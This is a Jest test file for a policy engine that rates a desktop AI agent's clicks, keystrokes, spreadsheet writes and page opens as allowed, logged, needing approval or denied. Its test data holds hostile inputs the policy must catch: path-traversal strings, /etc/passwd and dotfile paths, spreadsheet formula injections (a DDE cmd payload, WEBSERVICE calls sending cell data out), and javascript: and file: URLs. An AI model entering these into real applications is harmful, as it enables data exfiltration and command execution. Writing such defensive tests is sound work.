import { beforeAll, describe, expect, it } from '@jest/globals';
import {
  COLLECTOR_TOOLS,
  CONTROL_TOOLS,
  OFFICE_TOOLS,
  PAGE_TOOLS,
  QUIET_TOOLS,
  WINDOW_TOOLS,
  type CommandCall,
  type Json,
  type PolicyDecision,
  type ScreenPlace,
} from '#proto';
import { openPolicy } from '../judge/open-policy.js';
import type { CommandPolicy } from '../policy/index.js';
import { openBashGrammar } from '../script/index.js';

let policy: CommandPolicy;
beforeAll(async () => {
  policy = openPolicy(
    { file: 'version: 1\napplications: [mousepad, WINWORD.EXE, xterm, soffice.bin]\n' },
    await openBashGrammar(),
  );
});

const DEVICE = { deviceId: 'win-1', os: 'windows', tags: [] };
const placed = (application: string, more: Partial<ScreenPlace> = {}): ScreenPlace => ({
  agent: 'AppAgent',
  application,
  window: 'notes',
  control: { id: '7', type: 'Edit', name: 'Body' },
  snapshot: '1.2',
  ...more,
});
const judged = (tool: string, args: Record<string, Json>, on?: ScreenPlace) => {
  const command: CommandCall = { tool, arguments: args, ...(on !== undefined && { on }) };
  return policy.judge(command, DEVICE);
};
const decided = (tool: string, args: Record<string, Json>, on?: ScreenPlace): PolicyDecision =>
  judged(tool, args, on).decision;

const ARGUMENTS: Readonly<Record<string, Record<string, Json>>> = {
  set_edit_text: { id: '7', name: 'Body', text: 'hello' },
  keyboard_input: { id: '7', name: 'Body', keys: 'hello' },
  launch_application: { name: 'mousepad' },
  open_page: { url: 'https://example.org/' },
};

/** What each tool comes to: in a listed program, in one that is not, in a terminal that somebody has listed, and with nothing seen. */
const TABLE: readonly (readonly [string, PolicyDecision, PolicyDecision, PolicyDecision, PolicyDecision])[] = [
  ...COLLECTOR_TOOLS.map((tool) => [tool, 'allow', 'allow', 'allow', 'allow'] as const),
  ...QUIET_TOOLS.map((tool) => [tool, 'allow', 'allow', 'allow', 'allow'] as const),
  ['select_application_window', 'log', 'log', 'log', 'log'],
  ['launch_application', 'log', 'log', 'log', 'log'],
  ['run_shell', 'approve', 'approve', 'approve', 'approve'],
  ['click_input', 'log', 'approve', 'log', 'approve'],
  ['click_on_coordinates', 'approve', 'approve', 'approve', 'approve'],
  ['drag_on_coordinates', 'approve', 'approve', 'approve', 'approve'],
  ['set_edit_text', 'log', 'approve', 'deny', 'approve'],
  ['keyboard_input', 'log', 'approve', 'deny', 'approve'],
  ['wheel_mouse_input', 'log', 'approve', 'log', 'approve'],
  ['open_page', 'approve', 'approve', 'approve', 'approve'],
  ['read_page', 'allow', 'approve', 'allow', 'approve'],
  ['click_on_page', 'log', 'approve', 'log', 'approve'],
  ['download_from_page', 'approve', 'approve', 'approve', 'approve'],
  ...Object.entries(OFFICE_TOOLS).map(([tool, { does }]) => {
    const here = { read: 'allow', write: 'log', save: 'approve' } as const;
    return [tool, here[does], 'approve', here[does], 'approve'] as const;
  }),
];

describe('tools of a screen', () => {
  it('are all in the table', () => {
    const hands = [...COLLECTOR_TOOLS, ...WINDOW_TOOLS, ...CONTROL_TOOLS, ...QUIET_TOOLS];
    const all = [...hands, ...Object.keys(OFFICE_TOOLS), ...PAGE_TOOLS];
    expect(TABLE.map(([tool]) => tool).toSorted()).toEqual(all.toSorted());
  });

  it.each(TABLE)(
    '%s: listed %s, unknown %s, terminal %s, nothing seen %s',
    (tool, listed, unknown, terminal, nothing) => {
      const args = ARGUMENTS[tool] ?? {};
      expect([
        decided(tool, args, placed('mousepad')),
        decided(tool, args, placed('evil')),
        decided(tool, args, placed('xterm')),
        decided(tool, args),
      ]).toEqual([listed, unknown, terminal, nothing]);
    },
  );

  it.each([...CONTROL_TOOLS, 'run_shell', ...Object.keys(OFFICE_TOOLS), ...PAGE_TOOLS])(
    '%s is no standing grant for another screen',
    (tool) => {
      const verdict = judged(tool, ARGUMENTS[tool] ?? {}, placed('evil'));
      expect(verdict).toMatchObject({ decision: 'approve', grantable: false });
    },
  );

  it('wait for a person everywhere where no program is listed', async () => {
    const bare = openPolicy({}, await openBashGrammar());
    const command = { tool: 'click_input', arguments: {}, on: placed('mousepad') };
    expect(bare.judge(command, DEVICE).decision).toBe('approve');
  });
});

it('a look at a window is not judged as one at a phone', () =>
  expect(judged('get_app_window_controls_target_info', {}, placed('mousepad')).rule).toBe('screen.look'));

describe('text and keys for a terminal', () => {
  it.each(['xterm', '/usr/bin/xterm', 'WindowsTerminal.exe', 'cmd.exe', 'POWERSHELL', 'gnome-terminal-server'])(
    '%s: never',
    (program) => {
      expect(decided('set_edit_text', { text: 'ls' }, placed(program))).toBe('deny');
      expect(decided('keyboard_input', { keys: 'ls{ENTER}' }, placed(program))).toBe('deny');
      expect(decided('click_input', { button: 'middle' }, placed(program))).toBe('deny');
      expect(decided('click_on_coordinates', { x: 0, y: 0, button: 'middle' }, placed(program))).toBe('deny');
    },
  );

  it('nor where the control says that it is one', () => {
    const on = placed('mousepad', { control: { id: '1', type: 'Terminal', name: '' } });
    expect(decided('keyboard_input', { keys: 'ls' }, on)).toBe('deny');
  });

  it('stay a no whatever a policy says', async () => {
    const file = 'version: 1\napplications: [xterm]\nrules: [{ id: all, match: { program: "*" }, decision: allow }]\n';
    const open = openPolicy({ file }, await openBashGrammar());
    const on = placed('xterm');
    expect(open.judge({ tool: 'set_edit_text', arguments: { text: 'ls' }, on }, DEVICE).decision).toBe('deny');
  });
});

it.each(['Password', 'Kennwort:', 'Mot de passe', 'PIN', '密码', 'API key'])(
  'a field %s is neither read nor written',
  (name) => {
    const on = placed('mousepad', { control: { id: '1', type: 'Edit', name } });
    for (const tool of ['set_edit_text', 'keyboard_input', 'texts'])
      expect(decided(tool, { text: 'x', keys: 'x' }, on)).toBe('deny');
  },
);

describe('a secret by its name', () => {
  const text = { secret: 'crm-login' };
  const on = placed('mousepad', { window: 'Log in', control: { id: '1', type: 'Edit', name: 'Password' } });

  it('is put into a field when a person has said so, who is told which, where and in which window', () =>
    expect(judged('set_edit_text', { text }, on)).toMatchObject({
      decision: 'approve',
      grantable: false,
      rule: 'screen.secret',
      reasons: [
        'It puts the secret "crm-login" of the device into the field "Password" of the window "Log in" of "mousepad".',
      ],
    }));

  it.each<[string, string, PolicyDecision]>([
    ['a program that is not listed', 'evil', 'approve'],
    ['a terminal', 'xterm', 'deny'],
  ])('in %s', (_, program, decision) =>
    expect(decided('set_edit_text', { text }, { ...on, application: program })).toBe(decision),
  );

  it('goes in no other way', () => {
    expect(decided('keyboard_input', { keys: '{"secret": "crm-login"}' }, on)).toBe('deny');
    expect(decided('set_edit_text', { text: 'crm-login' }, on)).toBe('deny');
    expect(decided('texts', { text }, on)).toBe('deny');
  });
});

describe('a click', () => {
  const button = (name: string) => placed('mousepad', { control: { id: '1', type: 'Button', name } });
  it.each([
    'Send',
    '_Delete',
    'Senden',
    'Löschen…',
    'Supprimer',
    'Enviar',
    '删除',
    'Don’t Save',
    'Close',
    'x',
    '✕',
    'OK',
    'Удалить',
    'Pay 20 €',
  ])('on %s waits for a person', (name) => expect(decided('click_input', {}, button(name))).toBe('approve'));
  it.each(['Bold', 'Search', 'January', 'File', 'Runtime notes', 'Tabelle 1'])('on %s is noted', (name) =>
    expect(decided('click_input', {}, button(name))).toBe('log'),
  );
});

describe('keys', () => {
  it.each([
    'hello, wörld',
    '{TAB 2}',
    '{VK_CONTROL}s',
    '{VK_CONTROL}a',
    '{DOWN}{ENTER}',
    '^+%()',
    '{DELETE}',
    '{VK_CONTROL}a{VK_CONTROL}cwords{ENTER}',
    '{VK_CONTROL down}ac{VK_CONTROL up}quite a few words',
    '{VK_SHIFT down}{END}{VK_SHIFT up}w',
  ])('%s are noted', (keys) => expect(decided('keyboard_input', { keys }, placed('mousepad'))).toBe('log'));
  it.each([
    '{VK_MENU}{F4}',
    '{VK_CONTROL}w',
    '{VK_CONTROL}q',
    '{LWIN}r',
    '{VK_CONTROL}{VK_MENU}t',
    '{F12}',
    '{UNKNOWN}',
    '{',
    '{VK_CONTROL}{ENTER}',
    '{VK_CONTROL}{VK_SHIFT}w',
    '{VK_CONTROL down}aw{VK_CONTROL up}',
    '{VK_SHIFT down}{VK_CONTROL down}{VK_SHIFT up}w{VK_CONTROL up}',
    '{VK_CONTROL down}a',
    '{VK_SHIFT down}',
  ])('%s wait for a person', (keys) => expect(decided('keyboard_input', { keys }, placed('mousepad'))).toBe('approve'));
  it('that press what is named like that, or delete outside of a text, too', () => {
    const on = (type: string, name: string) => placed('mousepad', { control: { id: '1', type, name } });
    expect(decided('keyboard_input', { keys: '{ENTER}' }, on('Button', 'Send'))).toBe('approve');
    expect(decided('keyboard_input', { keys: '{DELETE}' }, on('ListItem', 'report.txt'))).toBe('approve');
  });
});

describe('files and pages', () => {
  const dialog = placed('mousepad', { window: 'Save As', control: { id: '1', type: 'Edit', name: 'Name:' } });
  it('a name alone stays where the dialog is; a path and a hidden name wait for a person', () => {
    expect(decided('set_edit_text', { text: 'notes.txt' }, dialog)).toBe('log');
    for (const text of ['/etc/passwd', 'C:\\Windows\\a', '../a', '~/.bashrc', '\\\\host\\share', '.profile', ' ..'])
      expect(decided('set_edit_text', { text }, dialog)).toBe('approve');
    for (const keys of [
      '/etc/cron.d/x{ENTER}',
      '.profile',
      '{VK_CONTROL}a{BACK}.profile',
      '{VK_CONTROL}a.profile',
      '{HOME}~',
    ])
      expect(decided('keyboard_input', { keys }, dialog)).toBe('approve');
    expect(decided('keyboard_input', { keys: '{END}s.txt{ENTER}' }, dialog)).toBe('log');
  });
  describe('of a run that has a directory there', () => {
    const RUN = '/srv/runs/r1';
    const ofRun = { ...dialog, runDirectory: RUN };
    const set = (text: string, on: ScreenPlace = ofRun, more = { clear_current_text: true }) =>
      judged('set_edit_text', { text, ...more }, on);
    it.each(['notes.txt', 'out/Größe 2.xlsx', 'a.b-c_(1)'])('take %s below it unasked, as a text', (name) =>
      expect(set(`${RUN}/${name}`)).toMatchObject({ class: 'write', decision: 'log', rule: 'screen.text' }),
    );
    it.each([
      'out/notes.txt',
      './notes.txt',
      '~/notes.txt',
      `~${RUN}/notes.txt`,
      RUN,
      `${RUN}/`,
      `${RUN}//notes.txt`,
      `${RUN}/./notes.txt`,
      `${RUN}/../r2/notes.txt`,
      `${RUN}/a/../../r2/notes.txt`,
      `${RUN}2/notes.txt`,
      `/srv/runs/../runs/r1/notes.txt`,
      `/SRV/runs/r1/notes.txt`,
      `${RUN}/.profile`,
      `${RUN}/.git/hooks/post-commit`,
      `${RUN}/~`,
      `${RUN}/notes.txt\n`,
      `${RUN}/notes.txt\n/etc/passwd`,
      `${RUN}/notes.txt\u0000`,
      `${RUN}/notes.txt `,
      ` ${RUN}/notes.txt`,
      `${RUN}/..\\notes.txt`,
      `${RUN}/\u202etxt.seton`,
      `${RUN}/u\u0308.txt`,
      `${RUN}/*`,
      `file://${RUN}/notes.txt`,
      '/etc/passwd',
    ])('ask for %j', (text) => expect(set(text)).toMatchObject({ decision: 'approve', rule: 'screen.path' }));
    it('ask where the field may say more than the text, and for what is typed', () => {
      const path = `${RUN}/notes.txt`;
      expect(set(path, ofRun, { clear_current_text: false }).decision).toBe('approve');
      expect(decided('set_edit_text', { text: path }, ofRun)).toBe('approve');
      expect(decided('keyboard_input', { keys: path }, ofRun)).toBe('approve');
    });
    it('ask in a dialog of which the device has not said that, in another program, and of a directory that is none', () => {
      const path = `${RUN}/notes.txt`;
      expect(set(path, dialog).decision).toBe('approve');
      expect(set(path, { ...ofRun, application: 'gimp' }).decision).toBe('approve');
      for (const runDirectory of ['', '/', 'srv/runs/r1', `${RUN}/`, '/srv/runs/x/../r1'])
        expect(set(`${runDirectory}/notes.txt`, { ...ofRun, runDirectory }).decision).toBe('approve');
    });
    it('ask for other paths whatever the dialog is called', () => {
      const nameless = { ...ofRun, window: 'A title' };
      expect(set('/etc/passwd', nameless).decision).toBe('approve');
      expect(set(`${RUN}/notes.txt`, nameless).decision).toBe('log');
      expect(decided('keyboard_input', { keys: '/etc/passwd' }, nameless)).toBe('approve');
    });
  });
  it('an address waits like the network', () => {
    const bar = placed('mousepad', { control: { id: '1', type: 'Edit', name: 'Address and search bar' } });
    expect(judged('set_edit_text', { text: 'example.org' }, bar)).toMatchObject({
      class: 'network',
      decision: 'approve',
    });
  });
  it('a program is started without words for it', () => {
    expect(decided('launch_application', { name: 'evil' })).toBe('approve');
    expect(decided('launch_application', { name: 'mousepad', arguments: ['/etc/passwd'] })).toBe('approve');
  });
});

describe('tools of a spreadsheet', () => {
  const sheet = placed('soffice.bin', { window: 'sum.xlsx' });
  const write = (cell: Json) =>
    judged('insert_excel_table', { table: [['a', 1], [cell]], sheet_name: 1, start_row: 1, start_col: 1 }, sheet);
  it.each(['=SUM(A1:A9)', '=IF(A1>2,"x","y")', 'https://example.org is a text', 7, null])('write %j unasked', (cell) =>
    expect(write(cell).decision).toBe('log'),
  );
  it.each([
    '=WEBSERVICE("http://example.org/" & A1)',
    '= hyperlink("mailto:a")',
    '=DDE("soffice";"/etc/passwd";"A1")',
    "='file:///etc/passwd'#$Sheet1.A1",
    '=INDIRECT("x")',
    "=cmd|' /C calc'!A0",
    '+WEBSERVICE(A1)',
  ])('ask a person like the network for %s', (cell) =>
    expect(write(cell)).toMatchObject({ class: 'network', decision: 'approve', grantable: false }),
  );
  it.each([
    '=SUM(A1:A9)',
    '=A1+B2',
    '="x"&A1',
    '=IF(A1>2,"x","y")',
    '-5',
    '+49 30 1234',
    'https://example.org is a text',
    'Umsatz (2024)',
  ])('take %j from a field and from keys unasked', (text) => {
    expect(decided('set_edit_text', { text }, sheet)).toBe('log');
    expect(decided('keyboard_input', { keys: `${text}{ENTER}` }, sheet)).toBe('log');
  });
  it.each([
    '=WEBSERVICE("http://example.org/" & A1)',
    '=HYPERLINK("x")',
    '=DDE("soffice";"/etc/passwd";"A1")',
    "=cmd|' /C calc'!A0",
    '=A1&"vnd.sun.star.script:x"',
    'a cell\n=INDIRECT("x")',
    'a cell\t=INDIRECT("x")',
  ])('ask like the network for %j, set or typed', (text) => {
    const asked = { class: 'network', decision: 'approve', grantable: false, rule: 'screen.formula' };
    expect(judged('set_edit_text', { text }, sheet)).toMatchObject(asked);
    expect(judged('keyboard_input', { keys: `{HOME}${text}{ENTER}` }, sheet)).toMatchObject(asked);
  });
  it.each(['=WEBSER', '="WEB', '=SUM(A1', 'VICE(A1)', '=A1&', 'WEBSERVICE', '='])(
    'ask for %j, which is a part of something',
    (text) => {
      expect(judged('set_edit_text', { text }, sheet)).toMatchObject({ decision: 'approve', rule: 'screen.formula' });
      expect(decided('keyboard_input', { keys: text }, sheet)).toBe('approve');
    },
  );
  it.each(['=WEB{BACK}BSERVICE', '{VK_CONTROL}a=WEBSER'])('ask for the keys %s', (keys) =>
    expect(decided('keyboard_input', { keys }, sheet)).toBe('approve'),
  );
  it('are those of a spreadsheet: a text editor takes all that', () =>
    expect(decided('keyboard_input', { keys: '=WEBSERVICE("http://example.org/"){ENTER}' }, placed('mousepad'))).toBe(
      'log',
    ));
  it.each<[string, Record<string, Json>, PolicyDecision]>([
    ['where its device has a place for it', { file_name: 'sum.xlsx' }, 'log'],
    ['in the directory of its run', { file_dir: '.', file_name: 'sum.xlsx' }, 'log'],
    ['above it', { file_dir: '..', file_name: 'sum.xlsx' }, 'approve'],
    ['below it', { file_dir: './x', file_name: 'sum.xlsx' }, 'approve'],
    ['in a directory that is named', { file_dir: '/srv', file_name: 'sum.xlsx' }, 'approve'],
    ['by a path', { file_name: '../sum.xlsx' }, 'approve'],
  ])('save %s', (_, args, decision) => expect(decided('save_as', args, sheet)).toBe(decision));
  it('of clients that have no such places ask each time', () =>
    expect(decided('save_as', { file_name: 'sum.docx' }, placed('WINWORD.EXE'))).toBe('approve'));
});

describe('tools of a browser', () => {
  const page = (name: string) =>
    placed('chromium', { window: 'Shop - Chromium', control: { id: '3', type: 'Button', name } });
  let browsing: CommandPolicy;
  beforeAll(async () => {
    const rule = "{ id: docs, match: { program: open_page, args: ['https://docs.example.org/*'] }, decision: log }";
    browsing = openPolicy(
      { file: `version: 1\napplications: [chromium]\nrules: [${rule}]\n` },
      await openBashGrammar(),
    );
  });
  const decision = (tool: string, args: Record<string, Json>, on = page('Details')): PolicyDecision =>
    browsing.judge({ tool, arguments: args, on }, DEVICE).decision;

  it.each([
    'file:///etc/passwd',
    'javascript:alert(1)',
    'data:text/html,x',
    'chrome://settings',
    'view-source:http://a/',
    'https://user:secret@example.org/',
    'example.org',
    '',
    7,
    null,
  ])('never open %j', (url) => expect(decision('open_page', { url })).toBe('deny'));
  it('ask for a page like the network, unless a rule names it', () => {
    expect(
      browsing.judge({ tool: 'open_page', arguments: { url: 'https://example.org/' }, on: page('') }, DEVICE),
    ).toMatchObject({ class: 'network', decision: 'approve', grantable: false });
    expect(decision('open_page', { url: 'https://docs.example.org/a?b' })).toBe('log');
    expect(decision('open_page', { url: 'HTTPS://docs.example.org' })).toBe('log');
    for (const url of ['https://docs.example.org.evil.net/', 'https://evil.net/https://docs.example.org/'])
      expect(decision('open_page', { url })).toBe('approve');
  });
  it('click unasked, but not on what commits to something, nor on what nobody has read', () => {
    expect(decision('click_on_page', { id: '3', name: 'Details' })).toBe('log');
    expect(decision('click_on_page', { id: '3', name: 'Pay now' }, page('Pay now'))).toBe('approve');
    // By what was read, whatever the call says.
    expect(decision('click_on_page', { id: '3', name: 'Details' }, page('Delete'))).toBe('approve');
    expect(decision('click_on_page', { id: '3', name: 'a' }, placed('chromium', { control: undefined }))).toBe(
      'approve',
    );
  });
  it('ask for each file', () =>
    expect(browsing.judge({ tool: 'download_from_page', arguments: {}, on: page('Report') }, DEVICE)).toMatchObject({
      class: 'network',
      decision: 'approve',
    }));
});
